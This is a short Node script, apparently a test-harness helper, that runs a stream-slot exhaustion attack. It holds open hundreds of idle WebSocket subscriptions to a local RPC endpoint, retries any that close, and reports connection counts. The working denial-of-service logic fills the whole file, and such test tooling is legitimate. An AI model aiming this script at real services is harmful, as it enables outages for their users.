/**
 * Attack: stream-slot exhaustion. `node streamSlots.js PORT SUBSCRIBERS` opens SUBSCRIBERS idle `/v1/stream`
 * WebSockets from ATTACKER_HOST to the RPC port on 127.0.0.1 and never reads a frame on purpose (it just holds them);
 * a refused or closed one is tried again after 500 ms. Once a second it prints `{"open", "refused", "answered"}`
 * (`answered`: attempts that got an answer, open or refused); it runs until SIGTERM.
 */
import WebSocket from "ws";
import { ATTACKER_HOST } from "../support.js";

const [portArg, subsArg] = process.argv.slice(2);
const port = Number(portArg);
const subscribers = Number(subsArg ?? 300);
let open = 0;
let refused = 0;
let answered = 0;
const live = new Set<WebSocket>();

function subscribe(): void {
  const ws = new WebSocket(`ws://127.0.0.1:${port}/v1/stream`, { localAddress: ATTACKER_HOST, perMessageDeflate: false });
  live.add(ws);
  let wasOpen = false;
  ws.on("open", () => {
    wasOpen = true;
    open++;
    answered++;
  });
  ws.on("unexpected-response", (_req, res) => {
    refused++;
    answered++;
    res.resume();
    ws.terminate();
  });
  ws.on("error", () => {});
  ws.on("close", () => {
    live.delete(ws);
    if (wasOpen) open--;
    setTimeout(subscribe, 500);
  });
}

for (let i = 0; i < subscribers; i++) subscribe();
const report = setInterval(() => process.stdout.write(`${JSON.stringify({ open, refused, answered })}\n`), 1000);
process.on("SIGTERM", () => {
  clearInterval(report);
  for (const ws of live) ws.terminate();
  process.exit(0);
});
